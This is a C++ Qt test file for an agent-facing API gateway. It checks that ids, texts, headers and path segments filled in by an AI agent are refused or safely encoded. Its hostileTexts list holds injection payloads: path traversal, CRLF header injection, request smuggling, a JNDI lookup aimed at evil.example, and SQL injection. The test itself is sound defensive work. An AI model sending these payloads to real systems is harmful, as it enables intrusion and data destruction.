// SPDX-License-Identifier: GPL-3.0-or-later
#include "gateway_core/tracker/tool_rows.h"
#include "tests/core/api/gate_bench.h"

#include <QRegularExpression>

#include <set>

using namespace gatehouse;
using namespace gatehouse::test;
using namespace std::chrono_literals;

namespace {

/// What would leave its place if a program pasted it into a URL, a header or a path.
const std::vector<std::string> &hostileTexts()
{
    static const std::vector<std::string> texts{
        ".",
        "..",
        "../x",
        "../../api/v1/workspaces",
        "..%2fx",
        "%2e%2e",
        "%2e%2e%2f",
        "a/b",
        "a\\b",
        "a?b",
        "a?owner=1&x=2",
        "a#b",
        "a%0d%0aX-Y: z",
        "a\r\nX-Y: z",
        "a\nX-Y: z",
        "a\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
        std::string("a\0b", 3),
        "a b",
        " ",
        "ENG-1/../ENG-2",
        "ENG-1?x",
        "ENG-",
        "-1",
        "ENG-99999999999999999999",
        "@evil.example",
        "http://evil.example/",
        "//evil.example/x",
        "\xd0\xb0", // a letter that looks like another
        "ENG\xe2\x80\x8b-1",
        "\xe2\x80\xae"
        "1-GNE",
        "${jndi:ldap://evil.example}",
        "'; DROP TABLE issues; --",
        std::string(65, 'a'),
        std::string(300, 'a'),
        std::string(100'000, 'a'),
    };
    return texts;
}

/// Arguments that say which project, issue or parent: nothing but letters, digits, '-' and '_' gets through.
bool isId(std::string_view name)
{
    return name == "project" || name == "issue" || name == "parent";
}

bool isSpelledLikeAnId(const std::string &name, const std::string &text)
{
    if (name == "project" && text == "\xd0\xb0") // an identifier of another script
        return true;
    static const QRegularExpression id(QStringLiteral("^[A-Za-z0-9_-]{1,64}\\z"));
    return id.match(QString::fromStdString(text)).hasMatch();
}

/// Is this request one of the contract's nine, with ids in it and nothing else?
bool isOfTheContract(const Json &request)
{
    static const QRegularExpression path(QStringLiteral(
        "^/api/internal/nodedc/agent/(projects/resolve|projects/[A-Za-z0-9_-]{1,64}/context|issues"
        "|issues/[A-Za-z0-9_-]{1,64}(/move|/comments|/labels|/assignees)?)$"));
    static const std::set<std::string> headers{ "host",
                                                "x-nodedc-owner-user-id",
                                                "x-nodedc-agent-id",
                                                "x-nodedc-agent-name",
                                                "x-request-id",
                                                "traceparent",
                                                "idempotency-key",
                                                "x-nodedc-project-id",
                                                "content-type",
                                                "content-length",
                                                "accept",
                                                "user-agent" };
    if (!path.match(QString::fromStdString(request.at("path").get<std::string>())).hasMatch()
        || request.at("credential") != "good")
        return false;
    for (const auto &[name, value] : request.at("headers").items()) {
        if (!headers.contains(name) || value.get<std::string>().find_first_of("\r\n") != std::string::npos)
            return false;
    }
    return true;
}

std::string shown(const std::string &text)
{
    return QByteArray::fromStdString(text.substr(0, 60)).toPercentEncoding(" ?&=:/#").toStdString();
}

} // namespace

/// Texts that try to leave their place, given to every argument, path and header that an agent may fill.
/// The agent may do everything everywhere, so that no missing grant stands in between.
class HostileIdsTest final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QVERIFY2(m_tasker.start(), qPrintable(m_tasker.error())); }

    void ids_ofEveryTool_neverLeaveTheirPlace()
    {
        GateBench bench(m_tasker);
        int refused = 0;
        for (const Tool &tool : trackerTools()) {
            for (const auto &[name, schema] : tool.inputSchema.at("properties").items()) {
                if (!isId(name))
                    continue;
                for (const std::string &text : hostileTexts()) {
                    Json arguments = bench.argumentsFor(tool);
                    arguments[name] = text;
                    const std::string place = std::string(tool.name) + '.' + name + " = " + shown(text);

                    const RecordedPtr answer = call(bench, tool, arguments);

                    const bool spelledLikeOne = isSpelledLikeAnId(name, text); // it names nothing
                    QVERIFY2(
                        answer->status() == 422 || (spelledLikeOne && answer->status() == 404),
                        (place + ": " + std::to_string(answer->status()) + answer->response->body).c_str());
                    const bool quiet = bench.nothingHappened();
                    QVERIFY2(spelledLikeOne || quiet, place.c_str());
                    for (const Json &request : bench.reachedTasker())
                        QVERIFY2(isOfTheContract(request), (place + request.dump()).c_str());
                    ++refused;
                }
            }
        }
        QVERIFY(refused > 300);
    }

    void texts_ofEveryTool_reachTaskerAsTextOnly()
    {
        GateBench bench(m_tasker);
        int sent = 0;
        for (const Tool &tool : trackerTools()) {
            for (const auto &[name, schema] : tool.inputSchema.at("properties").items()) {
                const bool isText = schema.at("type") == "string" && !schema.contains("enum");
                const bool isList = schema.at("type") == "array";
                if (isId(name) || (!isText && !isList))
                    continue;
                for (const std::string &text : hostileTexts()) {
                    Json arguments = bench.argumentsFor(tool);
                    if (name == "add" || name == "remove")
                        arguments.erase(tool.scope == Scope::LabelsWrite ? "labels" : "assignees");
                    arguments[name] = isList ? Json::array({ text }) : Json(text);
                    const std::string place = std::string(tool.name) + '.' + name + " = " + shown(text);

                    const RecordedPtr answer = call(bench, tool, arguments);

                    QVERIFY2(
                        answer->status() == 200 || answer->status() == 404 || answer->status() == 422,
                        (place + ": " + std::to_string(answer->status()) + answer->response->body).c_str());
                    for (const Json &request : bench.reachedTasker()) {
                        QVERIFY2(isOfTheContract(request), (place + request.dump()).c_str());
                        ++sent;
                    }
                }
            }
        }
        QVERIFY(sent > 300);
    }

    void headers_thatTheAgentFills_areNeverPassedOn()
    {
        GateBench bench(m_tasker);
        const Tool &tool = *bench.api.catalogue.find("tasker_create_issue");
        for (const char *header : { "Idempotency-Key", "X-Request-Id", "traceparent", "tracestate",
                                    "X-NodeDC-Agent-Id", "X-NodeDC-Owner-User-Id", "X-NodeDC-Project-Id",
                                    "X-Forwarded-For", "Cookie", "User-Agent", "X-Y" }) {
            Visit visit = bench.honest(GateBench::toolRoute());
            visit.headers[header] = "zz-marked-by-the-agent";
            bench.api.wind(5s);

            const RawAnswer answer = bench.ask(visit);

            QVERIFY2(answer.status == 200, (header + answer.body).c_str());
            const auto reached = bench.reachedTasker();
            QVERIFY(!reached.empty());
            for (const Json &request : reached) {
                QVERIFY2(isOfTheContract(request), (header + request.dump()).c_str());
                QVERIFY2(request.at("headers").dump().find("zz-marked") == std::string::npos, header);
            }
        }
        QVERIFY(tool.writes);
    }

    void agentName_ofAnyText_isOneEncodedHeader()
    {
        for (const std::string name : { "\xd0\xa0\xd0\xbe\xd0\xb1\xd0\xbe\xd1\x82", "a\r\nX-Y: z", "a: b, c",
                                        "\xe2\x80\xae"
                                        "evil",
                                        "%0d%0aX-Y: z" }) {
            GateBench bench(m_tasker);
            Agent renamed = *bench.api.registry.current()->agent(bench.api.agent);
            renamed.displayName = name; // put into the database: no door lets line breaks in
            bench.api.apply([renamed](Stores &stores) { return stores.agents.save(renamed); },
                            EventKind::AgentChanged);

            const RecordedPtr answer = call(bench, *bench.api.catalogue.find("tasker_create_issue"),
                                            { { "project", "ENG" }, { "name", "Engine" } });

            QCOMPARE(answer->status(), 200);
            const auto reached = bench.reachedTasker();
            QVERIFY(!reached.empty());
            for (const Json &request : reached) {
                QVERIFY2(isOfTheContract(request), request.dump().c_str());
                const auto sent = request.at("headers").at("x-nodedc-agent-name").get<std::string>();
                QCOMPARE(QByteArray::fromPercentEncoding(QByteArray::fromStdString(sent)).toStdString(),
                         name);
                QVERIFY(sent.find_first_of(" \r\n:,") == std::string::npos);
            }
        }
    }

    void paths_ofEveryRouteWithAnId_areRefusedAndNothingHappens()
    {
        GateBench bench(m_tasker);
        int seen = 0;
        eachRoute([&](const Route &route) {
            if (route.path.find('{') == std::string_view::npos)
                return;
            for (const std::string &text : hostileTexts()) {
                const QByteArray encoded = QByteArray::fromStdString(text).toPercentEncoding();
                if (encoded.size() > 8000)
                    continue; // 431 by its length alone
                for (const std::string &spelled : { text, encoded.toStdString() }) {
                    if (spelled.find_first_of("\r\n ") != std::string::npos
                        || spelled.find('\0') != std::string::npos)
                        continue; // it would end the request line: tst_abuse
                    Visit visit = bench.honest(route);
                    visit.target = std::string(route.path.substr(0, route.path.find('{'))) + spelled
                        + std::string(route.path.substr(route.path.find('}') + 1));
                    if (const auto more = visit.target.find('{'); more != std::string::npos)
                        visit.target.replace(more, visit.target.find('}') - more + 1, spelled);
                    bench.api.wind(7s);
                    ++seen;

                    const RawAnswer answer = bench.ask(visit);

                    QVERIFY2(
                        answer.status >= 400 && answer.status < 500,
                        (visit.method + ' ' + visit.target + ' ' + std::to_string(answer.status)).c_str());
                    QVERIFY2(answer.head.find("x-y:") == std::string::npos, visit.target.c_str());
                }
            }
            QVERIFY2(bench.nothingHappened(), std::string(route.path).c_str());
        });
        QVERIFY(seen > 500);
    }

private:
    static RecordedPtr call(GateBench &bench, const Tool &tool, const Json &arguments)
    {
        bench.api.wind(5s); // the rates are not the subject
        const RecordedPtr answer = bench.api.send(
            { "POST", "/api/v1/tools/" + std::string(tool.name), bench.api.agentToken, arguments.dump() });
        if (!GateBench::until([&answer] { return answer->response.has_value(); }))
            answer->response = HttpResponse{};
        return answer;
    }

    ContractTaskerProcess m_tasker;
};

QTEST_GUILESS_MAIN(HostileIdsTest)
#include "tst_hostile_ids.moc"
